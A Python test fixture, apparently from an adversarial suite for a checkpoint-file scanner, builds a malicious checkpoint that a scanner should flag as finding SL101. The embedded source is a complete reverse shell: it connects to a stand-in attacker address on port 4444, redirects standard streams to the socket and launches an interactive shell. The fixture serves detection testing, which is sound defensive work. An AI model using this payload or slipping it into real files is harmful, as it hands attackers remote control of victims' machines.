"""Class: back door. A shell on a connection to the attacker."""

from pathlib import Path

from tests.adversarial.craft import ADDRESS, PORT, checkpoint, run

EXPECT = {"address": ADDRESS, "port": PORT, "argv": ["sh", "-i"], "finding": "SL101"}


def make(folder: Path) -> Path:
    source = """
import os, socket
s = socket.socket()
s.settimeout(2)
s.connect_ex(('203.0.113.7', 4444))
for n in range(3): os.dup2(s.fileno(), n)
os.execv('/bin/sh', ['sh', '-i'])
"""
    return checkpoint(folder, run(source))
